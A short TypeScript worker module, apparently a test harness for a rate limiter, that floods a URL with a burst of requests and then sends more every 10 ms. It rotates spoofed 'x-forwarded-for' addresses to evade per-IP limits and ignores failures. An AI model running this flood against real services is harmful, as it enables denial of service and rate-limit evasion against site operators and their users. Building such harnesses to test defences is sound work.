import { workerData } from 'node:worker_threads';

/** Requests of an attacker: a whole budget at once, then twice its refill. */
const BURST = 200;
const EVERY_MS = 10;

/** One request, sent again and again in a thread of its own, so that a neighbour's calls do not wait for it. */
export interface Flood {
  readonly url: string;
  readonly init: { readonly method: string; readonly headers: Record<string, string>; readonly body?: string };
  /** Addresses that send it in turn. */
  readonly addresses: readonly string[];
}

const { url, init, addresses } = workerData as Flood;
let sent = 0;
const send = async (): Promise<void> => {
  const address = addresses[(sent += 1) % addresses.length] ?? '';
  const response = await fetch(url, { ...init, headers: { ...init.headers, 'x-forwarded-for': address } });
  await response.arrayBuffer();
};

/** Ignores errors: a rejected connection is no reason to stop. */
const attack = (): void => void send().catch(() => undefined);
for (let n = 0; n < BURST; n += 1) attack();
setInterval(attack, EVERY_MS);
